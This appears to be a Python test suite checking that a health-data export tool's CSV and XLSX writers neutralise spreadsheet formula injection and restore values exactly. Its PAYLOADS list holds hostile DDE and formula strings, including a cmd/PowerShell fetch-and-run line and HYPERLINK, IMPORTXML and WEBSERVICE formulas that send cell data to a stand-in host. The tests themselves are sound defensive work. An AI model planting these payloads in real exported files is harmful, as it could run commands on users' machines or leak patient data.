"""Formula injection: exported text never becomes a live formula, and import gives the original back."""

from __future__ import annotations

import csv
import random
from pathlib import Path

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from iapt_desktop.interchange.formula_guard import (
    DANGEROUS_FIRST_CHARACTERS,
    escape_ooxml,
    is_dangerous,
    neutralise,
    restore,
    unescape_ooxml,
)
from iapt_desktop.interchange.table_files import read_tables, write_tables_csv, write_tables_xlsx
from iapt_desktop.interchange.table_parsing import header_problems, parse_rows

PAYLOADS = (
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
    "+cmd|'/c powershell IEX(wget example.invalid)'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "=1+1",
    "=IMPORTXML(CONCAT(\"http://example.invalid/\",A2),\"//a\")",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=WEBSERVICE(\"http://example.invalid\")",
    "'=1+1",
    "''",
    "'",
    "_x0041_",
    "_x005F_x0041_",
    "\uff1dSUM(A1)",
)


def hostile_strings(count: int = 10_000, seed: int = 20251124) -> list[str]:
    rng = random.Random(seed)
    starters = [*sorted(DANGEROUS_FIRST_CHARACTERS), "'", "''", " =", "_x000D_"]
    alphabet = "abcXYZ019=+-@'\"|!,;()\t\r\n _xé€\x01\x0b\x1f"
    strings: list[str] = []
    while len(strings) < count:
        kind = len(strings) % 4
        if kind == 0:
            strings.append(PAYLOADS[len(strings) // 4 % len(PAYLOADS)])
        elif kind == 1:
            strings.append(rng.choice(starters) + rng.choice(PAYLOADS))
        else:
            body = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 24)))
            strings.append(rng.choice(starters) + body)
    return strings


def test_hostile_strings_cover_every_dangerous_first_character() -> None:
    strings = hostile_strings()
    assert len(strings) == 10_000
    assert {s[0] for s in strings if s} >= DANGEROUS_FIRST_CHARACTERS


def _rows(strings: list[str]) -> list[dict[str, str]]:
    # Two text columns per row carry hostile text; the key is plain.
    return [
        {"LocalPatientId": f"P{i:05d}", "Postcode": text, "EthnicCategory2021": strings[-1 - i]}
        for i, text in enumerate(strings)
    ]


def _read_back(source: Path) -> list[dict[str, object]]:
    tables = {t.name: t for t in read_tables(source) if not header_problems(t)}
    rows = list(parse_rows(tables["IDS001MPI"]))
    assert not [p for row in rows for p in row.problems]
    return [row.values for row in rows]


def test_csv_export_has_no_field_a_spreadsheet_could_take_as_a_formula_and_reads_back_exactly(
        tmp_path: Path) -> None:
    strings = hostile_strings()
    write_tables_csv(tmp_path / "out", {"IDS001MPI": _rows(strings)})
    with open(tmp_path / "out" / "IDS001MPI.csv", encoding="utf-8", newline="") as handle:
        fields = [field for row in csv.reader(handle) for field in row]
    assert len(fields) > 10_000 * 14
    assert not [f for f in fields if is_dangerous(f)]
    values = _read_back(tmp_path / "out")
    assert [v["Postcode"] for v in values] == [s or None for s in strings]
    assert [v["EthnicCategory2021"] for v in values] == [s or None for s in reversed(strings)]


def test_xlsx_export_has_zero_formula_cells_and_reads_back_exactly(tmp_path: Path) -> None:
    strings = hostile_strings()
    path = write_tables_xlsx(tmp_path / "out.xlsx", {"IDS001MPI": _rows(strings)})
    workbook = openpyxl.load_workbook(path)  # full mode: every cell with its type
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert len(cells) > 10_000 * 14
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if isinstance(c.value, str) and is_dangerous(c.value)]
    workbook.close()
    values = _read_back(path)
    assert [v["Postcode"] for v in values] == [s or None for s in strings]
    assert [v["EthnicCategory2021"] for v in values] == [s or None for s in reversed(strings)]


@given(st.text())
def test_neutralise_is_undone_exactly_and_never_leaves_a_formula(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not is_dangerous(neutralise(text))


@given(st.text())
def test_ooxml_escape_is_undone_exactly_and_leaves_no_character_xml_cannot_hold(text: str) -> None:
    escaped = escape_ooxml(text)
    assert unescape_ooxml(escaped) == text
    assert not any(ord(ch) < 32 and ch not in "\t\n" for ch in escaped)


def test_examples_of_the_rule() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("'quoted") == "''quoted"
    assert neutralise("-3") == "'-3"
    assert neutralise("01") == "01"
    assert escape_ooxml("a\rb") == "a_x000D_b"
    assert escape_ooxml("_x0041_") == "_x005F_x0041_"
